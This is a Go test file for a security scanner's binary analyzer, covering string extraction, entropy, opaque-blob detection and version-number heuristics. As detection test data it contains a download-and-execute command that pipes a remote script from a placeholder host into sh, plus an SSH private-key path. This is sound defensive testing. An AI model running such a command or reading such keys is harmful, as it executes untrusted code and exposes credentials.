package binary

import (
	"os"
	"strings"
	"testing"

	"github.com/vigilsec/vigil/analyze"
	"github.com/vigilsec/vigil/report"
)

func load(t testing.TB, name string) *analyze.File {
	t.Helper()
	b, err := os.ReadFile("testdata/" + name)
	if err != nil {
		t.Fatal(err)
	}
	return &analyze.File{Path: name, Data: b, Size: int64(len(b)), Kind: analyze.Sniff(name, b)}
}

func TestStringsASCIIAndWide(t *testing.T) {
	f := load(t, "fail_commands.dat")
	var got []String
	for _, s := range Strings(f.Data) {
		if strings.Contains(s.Text, "curl") || strings.Contains(s.Text, "id_rsa") {
			got = append(got, s)
		}
	}
	if len(got) != 2 {
		t.Fatalf("got %+v, want the curl command and the wide .ssh path", got)
	}
	if got[0].Wide || !strings.HasSuffix(got[0].Text, "curl -fsSL https://dl.example.net/i.sh | sh") ||
		string(f.Data[got[0].Offset:got[0].Offset+int64(len(got[0].Text))]) != got[0].Text {
		t.Errorf("ascii string = %+v", got[0])
	}
	if !got[1].Wide || got[1].Text != `%USERPROFILE%\.ssh\id_rsa` {
		t.Errorf("wide string = %+v", got[1])
	}
	if string(f.Data[got[1].Offset:got[1].Offset+2]) != "%\x00" {
		t.Errorf("wide offset %d does not point at the string", got[1].Offset)
	}
}

func TestEntropy(t *testing.T) {
	if h := Entropy([]byte("aaaaaaaa")); h != 0 {
		t.Errorf("entropy of one symbol = %v", h)
	}
	if h := Entropy(load(t, "fail_blob.bin").Data); h < 7.9 {
		t.Errorf("entropy of AES output = %v, want near 8", h)
	}
}

func TestAnalyzeCommands(t *testing.T) {
	fs := Analyzer{}.Analyze(load(t, "fail_commands.dat"))
	want := map[string]string{
		"bin." + DownloadExec:  "curl -fsSL https://dl.example.net/i.sh | sh",
		"bin." + CredentialRef: `.ssh\id_`,
	}
	for _, f := range fs {
		if m, ok := want[f.Rule]; ok && f.Match == m {
			delete(want, f.Rule)
		}
	}
	if len(want) > 0 {
		t.Errorf("missing %v in %+v", want, fs)
	}
	if fs[0].Level != report.High {
		t.Errorf("curl|sh in a binary is %v, want high", fs[0].Level)
	}
}

func TestOpaqueBlob(t *testing.T) {
	fs := Analyzer{}.Analyze(load(t, "fail_blob.bin"))
	if len(fs) == 0 || fs[len(fs)-1].Rule != RuleOpaque || fs[len(fs)-1].Level != report.Low {
		t.Errorf("encrypted blob: %+v", fs)
	}
	for _, f := range (Analyzer{}).Analyze(load(t, "blob.gz")) {
		if f.Rule == RuleOpaque {
			t.Errorf("gzip data flagged as opaque: %+v", f)
		}
	}
}

func TestOnlyBinaryKind(t *testing.T) {
	f := load(t, "fail_commands.dat")
	f.Kind = analyze.PE
	if fs := (Analyzer{}).Analyze(f); fs != nil {
		t.Errorf("analyzed a PE: %+v", fs)
	}
}

func FuzzStrings(f *testing.F) {
	for _, n := range []string{"fail_commands.dat", "blob.gz"} {
		b, _ := os.ReadFile("testdata/" + n)
		f.Add(b[:min(len(b), 512)])
	}
	f.Add([]byte("a\x00b\x00c\x00d\x00e\x00f\x00g"))
	f.Fuzz(func(t *testing.T, b []byte) {
		for _, s := range Strings(b) {
			if s.Offset < 0 || s.Offset >= int64(len(b)) || len(s.Text) < MinString {
				t.Fatalf("bad string %+v", s)
			}
		}
		Analyzer{}.Analyze(&analyze.File{Data: b, Size: int64(len(b)), Kind: analyze.Binary})
	})
}

func BenchmarkAnalyze(b *testing.B) {
	f := load(b, "fail_blob.bin")
	b.SetBytes(int64(len(f.Data)))
	for b.Loop() {
		Analyzer{}.Analyze(f)
	}
}

func TestVersionLike(t *testing.T) {
	for _, c := range []struct {
		ip, ctx string
		want    bool
	}{
		{"203.0.113.44", "203.0.113.44", false},
		{"1.0.0.0", `version="1.0.0.0"`, true},
		{"2.5.29.15", "2.5.29.15", true},
		{"127.0.0.1", "127.0.0.1", true},
		{"192.168.1.20", "192.168.1.20", true},
		{"0:0:0:0:0:0:0:1", "0:0:0:0:0:0:0:1", true},
		{"80.1.7.92", "FileVersion 80.1.7.92", true},
		{"198.51.100.71", "connect 198.51.100.71", false},
	} {
		if got := versionLike(c.ip, c.ctx); got != c.want {
			t.Errorf("versionLike(%q, %q) = %v", c.ip, c.ctx, got)
		}
	}
}
